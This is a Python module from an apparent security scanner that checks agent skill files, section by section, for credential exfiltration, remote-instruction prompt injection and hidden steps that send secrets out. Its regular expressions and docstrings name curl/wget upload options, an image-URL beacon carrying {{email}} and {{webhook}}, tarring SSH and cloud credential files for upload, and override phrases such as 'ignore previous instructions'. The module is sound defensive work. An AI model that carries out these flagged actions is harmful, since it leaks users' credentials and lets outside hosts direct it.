"""The prose rules read a section whole: a Markdown section (the lines between two headings) is a
procedure the agent follows item by item, so what no item says alone the section can.

- :func:`collected_and_uploaded`: credential files gathered, packed into an archive (or a file
  the steps make) and uploaded (or attached to what a command sends) in one section are
  ``exfiltration``;
- :func:`remote_instructions`: a section that downloads a document from a web address and has the
  agent follow it over its own instructions (it "takes precedence over this file", 以它为准) or run
  the commands it holds is ``prompt-injection``: whoever serves that address directs the agent;
- :func:`concealed_in_section`: a step kept from the user (a ``concealment`` caution of the prose
  rules) is dangerous where its section also acts: secrets recorded in full into notes or memory,
  a command that sends a variable's value or a file to a web address, an image for the reply whose
  address carries filled-in values beside a named secret.

Both run after :func:`skillrouter.security.prose.prose_findings` has read the file's blocks, on its
findings (:class:`~skillrouter.security.units.Collector`).
"""

from __future__ import annotations

import dataclasses
import itertools
import re
from collections.abc import Iterator

from skillrouter.security.findings import excerpt, finding
from skillrouter.security.lexicon_commands import SECRET_FILE_RE
from skillrouter.security.lexicon_secrets import SECRET_GATHER_RE
from skillrouter.security.markdown import Body
from skillrouter.security.supply import is_placeholder
from skillrouter.security.units import Collector

__all__ = ["collected_and_uploaded", "concealed_in_section", "remote_instructions"]

_HEADING_LINE_RE = re.compile(r"^\s{0,3}#{1,6}\s")
_BLOCK_EDGE_RE = re.compile(r"^\s{0,3}(?:#{1,6}\s|```|~~~)")  # a heading or a fence
# a command in the section that sends a variable's value or a file to a web address
_SENDS_RE = re.compile(
    # the program as a command word (httpie's ``http POST``, not a URL's scheme), then within the same
    # command line (a backslash continues it) an option that sends what follows: a variable or a file
    r"(?:^|[\s;|&(`$])(?:curl|wget|http|https|xh|invoke-restmethod|invoke-webrequest|irm|iwr)[ \t]"
    r"(?:[^\n`]|\\\n){0,300}?"
    r"(?:\s-d|\s--data(?:-\w+)?|\s-F|\s--form|\s-T|\s--upload-file|\s--post-(?:data|file)|\s-Body|\s-InFile)"
    r"[\s=]*[\"']?[\w.-]*=?[\"']?[@$]",
    re.IGNORECASE,
)


# an image the agent puts in its reply whose address carries values it fills in: the chat renders
# it, and the request carries them out (![](https://x.example/r.svg?u={{email}}&h={{webhook}}))
_BEACON_RE = re.compile(
    r"!\[[^\]\n]{0,200}\]\(\s*https?://[^)\s?]{1,300}\?[^)\s]{0,500}?(?:\{\{|\$\{|\{\w+\}|<[^>\s]{1,40}>)"
)


# where gathered secrets are kept for later: the agent's notes or memory
_NOTES_RE = re.compile(r"笔记|记忆|备忘|\bnotes?\b|\bmemor(?:y|ies)\b|\bjournal\b", re.IGNORECASE)
_NEGATED_BEFORE_RE = re.compile(
    r"\b(?:never|not|don'?t|do\s+not|no|without)\b[^.;\n]{0,40}$|(?:绝不|不要|禁止|不得|切勿|避免|不|勿)[^。；\n]{0,10}$",
    re.IGNORECASE,
)
# a secret named where an image's address is filled in: a key, a token, a webhook, an account's email
_SECRET_NAMED_RE = re.compile(
    r"\b[A-Z][A-Z0-9_]*(?:TOKEN|SECRET|KEY|PASSWORD|WEBHOOK)\b|\b(?:api\s*keys?|tokens?|secrets?|passwords?"
    r"|webhooks?|e-?mail)\b|密钥|令牌|口令|密码|凭据|邮箱",
    re.IGNORECASE,
)


def _gathers_into_notes(lower: str) -> bool:
    """Whether ``lower`` orders secrets recorded in full into notes or memory, not negated ("Never
    store API keys in plain text" is the opposite; saving a new token into ``.env`` is setup)."""
    for m in SECRET_GATHER_RE.finditer(lower):
        line_start = lower.rfind("\n", 0, m.start()) + 1
        if _NEGATED_BEFORE_RE.search(lower, line_start, m.start()):
            continue
        if _NOTES_RE.search(lower, m.start(), m.end() + 80):
            return True
    return False


def _sections(lines: list[str]) -> Iterator[tuple[int, str]]:
    """Each section (its first line's index, its text): the lines from a heading (or the start) up
    to the next heading."""
    start = 0
    while start < len(lines):
        end = start + 1
        while end < len(lines) and not _HEADING_LINE_RE.match(lines[end]):
            end += 1
        yield start, "\n".join(lines[start:end])
        start = end


def _section(lines: list[str], at: int, edge: re.Pattern[str]) -> str:
    """The lines around line ``at`` up to the nearest ``edge`` lines above and below."""
    start = at
    while start > 0 and not edge.match(lines[start]):
        start -= 1
    end = at + 1
    while end < len(lines) and not edge.match(lines[end]):
        end += 1
    return "\n".join(lines[start:end])


# an archive made in the section: what it packs is what the upload after it sends
_ARCHIVES_RE = re.compile(
    r"\b(?:tar\s+(?:-\w*c|c\w*\s)|zip\s+-|zip\s+\S+\.zip|compress-archive|7z\s+a\b|shutil\.make_archive)",
    re.IGNORECASE,
)


_ARCHIVE_WORDS = ("tar ", "tar\t", "zip ", "zip\t", "compress-archive", "7z", "make_archive")  # in each match
_SEND_WORDS = ("curl", "wget", "http", "invoke-", "irm", "iwr")  # every _SENDS_RE match
_FILE_WORDS = (
    "creat",
    "write",
    "save",
    "dump",
    "创建",
    "写入",
    "保存",
    "新建",
)  # in each _MADE_FILE_RE match
# a file the steps make, named in backticks ("Create `diag.txt` containing ...", 新建 `report.txt`)
_MADE_FILE_RE = re.compile(
    r"\b(?:creat|writ|sav|dump)\w*\s+(?:(?:a|an|the|new)\s+)?(?:file\s+)?`(?P<file>[\w./-]+\.\w{1,8})`"
    r"|(?:创建|写入|保存|新建)\s*(?:文件)?\s*`(?P<zh>[\w./-]+\.\w{1,8})`",
    re.IGNORECASE,
)
# a command or an order that sends a file it names: attached, uploaded, posted
_SENDS_FILE_WORDS = re.compile(
    r"--attach\w*|--upload\w*|\s-F\s|\s-T\s|--form|--data-binary|\b(?:attach|upload|send|submit|post)\w*\b"
    r"|上传|发送|附上|提交",
    re.IGNORECASE,
)


def _file_made_and_sent(section: str) -> int | None:
    """Where (an offset) ``section`` sends a file it had the agent make (a line after the one that
    makes it that names the file and attaches, uploads or sends it): the file holds what the
    section gathered into it."""
    for made in _MADE_FILE_RE.finditer(section):
        name = made.group("file") or made.group("zh")
        after = section.find("\n", made.end())
        if after < 0:
            continue
        for m in re.finditer(re.escape(name), section[after:]):
            line_start = section.rfind("\n", 0, after + m.start()) + 1
            line_end = section.find("\n", after + m.end())
            line = section[line_start : line_end if line_end >= 0 else len(section)]
            if _SENDS_FILE_WORDS.search(line) and not _EXCLUDED_RE.search(line):
                return line_start
    return None


def collected_and_uploaded(out: Collector, body: Body) -> None:
    """``exfiltration`` where one section (the lines between two headings) names credential files
    (``~/.aws/credentials``, ``~/.kube/config``, an SSH key: :data:`SECRET_FILE_RE`), packs an
    archive and gives a command that sends a file to a web address: the steps of a procedure the
    agent follows item by item, each harmless alone (probe17's 13: copy the credential files,
    ``tar`` them, ``curl -F f=@bundle.tgz`` to a "maintainers' drop")."""
    lines = body.lines
    text = "\n".join(lines)
    lower = text.lower()
    archived = any(w in lower for w in _ARCHIVE_WORDS) and any(w in lower for w in _SEND_WORDS)
    filed = "`" in text and any(w in lower for w in _FILE_WORDS)
    if not (archived or filed):
        return  # most files: no archive or file made and sent, and the regexes below are costly
    if SECRET_FILE_RE.search(text) is None:
        return
    for start, section in _sections(lines):
        sent: int | None = None
        if _collects_credential_files(section):
            upload = _SENDS_RE.search(section) if _ARCHIVES_RE.search(section) else None
            sent = upload.start() if upload is not None else _file_made_and_sent(section)
        if sent is not None:
            at = start + section.count("\n", 0, sent)
            line = body.first_line + at
            if ("exfiltration", line) not in out.found:  # the prose rules' own finding stays
                out.found[("exfiltration", line)] = finding(
                    "exfiltration", out.relpath, line, excerpt(lines[at], 0), why=_COLLECTED_WHY
                )


# an order to gather files: copy, collect, include, bundle ... (a credential file only named, or
# named as left out, is not gathered)
_COLLECT_VERB_RE = re.compile(
    r"\b(?:copy|copies|cp|collect\w*|gather\w*|includ\w*|bundl\w*|grab\w*|add\w*|attach\w*|archiv\w*|pack\w*"
    r"|contents\s+of)\b"
    r"|复制|拷贝|收集|打包|附上|包含|加入|内容",
    re.IGNORECASE,
)
_EXCLUDED_RE = re.compile(
    r"\b(?:never|not|no|don'?t|do\s+not|without|except|exclud\w*|omit\w*|skip\w*|leave\s+out|left\s+out)\b"
    r"|不要|不得|禁止|排除|不包含|除外|绝不",
    re.IGNORECASE,
)


def _collects_credential_files(section: str) -> bool:
    """Whether ``section`` orders a credential file gathered: a verb that gathers within the 200
    characters before it (its list item), with no negation or exclusion from just before the verb
    to it."""
    for m in SECRET_FILE_RE.finditer(section):
        before = section[max(0, m.start() - 200) : m.start()]
        verbs = list(_COLLECT_VERB_RE.finditer(before))
        if verbs and _EXCLUDED_RE.search(before, max(0, verbs[-1].start() - 30)) is None:
            return True  # (nor in the words just before the verb: "it never includes ...")
    return False


_COLLECTED_WHY = (
    "One section of its instructions has the agent copy credential files, pack them into an archive "
    "or a file it makes, and upload or attach it."
)


def concealed_in_section(out: Collector, body: Body) -> None:
    """A step kept from the user is dangerous where its section also acts: orders secrets
    gathered in full ("record the API keys verbatim", 把…口令完整记录到笔记; the lines between
    the headings or fences around it: rules written for an agent's memory put each order in an
    item of its own), or gives a command that sends a variable's value or a file to a web address,
    or an image for the reply whose address carries values filled in (the lines between the
    headings around it: the command sits in a fence, the step kept from the user in the prose
    after it)."""
    for key, found in list(out.found.items()):
        if found.rule != "concealment" or found.severity != "caution" or found.line is None:
            continue
        at = found.line - body.first_line
        if not 0 <= at < len(body.lines):
            continue  # a front-matter field
        gathers = _gathers_into_notes(_section(body.lines, at, _BLOCK_EDGE_RE).lower())
        section = _section(body.lines, at, _HEADING_LINE_RE)
        beacon = _BEACON_RE.search(section) is not None and _SECRET_NAMED_RE.search(section) is not None
        if gathers or _SENDS_RE.search(section) or beacon:
            out.found[key] = dataclasses.replace(found, severity="dangerous")


# a document downloaded into a file: curl/wget/iwr ... https://host/... -o FILE (or > FILE)
_FETCHED_DOC_RE = re.compile(
    r"\b(?:curl|wget|invoke-webrequest|iwr)\b[^\n`]{0,300}?(?P<url>https?://[^\s\"'`)]+)[^\n`]{0,200}?"
    r"(?:\s(?:-o|-O|--output|--output-document|-OutFile)\s+|\s>\s*)[\"']?(?P<file>[^\s\"'`;|&)]+)",
    re.IGNORECASE,
)
# an order to put the document above the agent's own instructions (this file, the conversation,
# anything said before), or to run the commands it holds
_OVER_OWN_RE = re.compile(
    r"\b(?:precedence|priority)\s+over\s+(?:this\s+(?:file|skill|document)|these\s+instructions|the\s+conversation"
    r"|(?:any|all|the)\s+(?:other|earlier|previous|conflicting)|earlier|previous|anything|everything|your)"
    r"|\b(?:overrides?|supersedes?)\s+(?:this\s+(?:file|skill)|these\s+instructions|any\s+(?:other|earlier|previous"
    r"|conflicting)|earlier|previous|your)"
    r"|\bignore\s+(?:any|all|the)?\s*(?:other|conflicting|earlier|previous)\s+instructions"
    r"|\bas\s+authoritative\b"
    r"|\b(?:run|execute)\s+(?:those|the|its|any|every|all)\s+(?:shell\s+)?commands\b"
    r"|以(?:它|其|该文件|该文档|远程\S{0,8}|最新\S{0,8})为准|优先于(?:本文件|本文档|此前|之前|上述|对话)"
    r"|覆盖(?:本文件|此前|之前)的|忽略(?:其他|此前|之前|上述)(?:的)?(?:指令|说明|要求)|执行其中的(?:命令|步骤)",
    re.IGNORECASE,
)
_MAX_DOWNLOADS = 16  # downloads of one section looked at (a long list of them is a mirror script)
_FOLLOWING = 1_500  # characters after a download its order is looked for in
_FOLLOW_RE = re.compile(
    r"\b(?:follow|obey|apply|comply|treat)\w*\b|遵循|遵守|照做|按照|执行|视为", re.IGNORECASE
)
_REMOTE_WHY = (
    "It has the agent download a document from {host} and follow it over its own instructions: "
    "whoever serves that address directs the agent, and can change it at any time."
)


def remote_instructions(out: Collector, body: Body) -> None:
    """``prompt-injection`` where a section downloads a document from a (real, not placeholder)
    web address into a file and then, naming that file or "it", has the agent follow it over its
    own instructions or run the commands it holds (probe23's 13: a "central review policy")."""
    lines = body.lines
    text = "\n".join(lines)
    lower = text.lower()
    if "http" not in lower or not any(w in lower for w in ("curl", "wget", "iwr", "invoke-webrequest")):
        return
    for start, section in _sections(lines):
        for fetched in itertools.islice(_FETCHED_DOC_RE.finditer(section), _MAX_DOWNLOADS):
            url, name = fetched.group("url"), fetched.group("file").rsplit("/", 1)[-1]
            host = re.split(r"[/?#]", url.split("//", 1)[-1], maxsplit=1)[0]
            if is_placeholder(f"https://{host}") or not name or name.startswith("-"):
                continue  # the host the reader fills in (a query's <owner> is theirs to give)
            rest = section[fetched.end() : fetched.end() + _FOLLOWING]
            order = _OVER_OWN_RE.search(rest)
            if order is None or _FOLLOW_RE.search(rest, 0, order.end()) is None:
                continue
            if name not in rest[: order.end()] and not re.search(
                r"\b(?:it|them)\b|它|其", rest[: order.end()]
            ):
                continue
            at = start + section.count("\n", 0, fetched.start())
            line = body.first_line + at
            if ("prompt-injection", line) not in out.found:
                out.found[("prompt-injection", line)] = finding(
                    "prompt-injection",
                    out.relpath,
                    line,
                    excerpt(lines[at], 0),
                    why=_REMOTE_WHY.format(host=host),
                )
            break
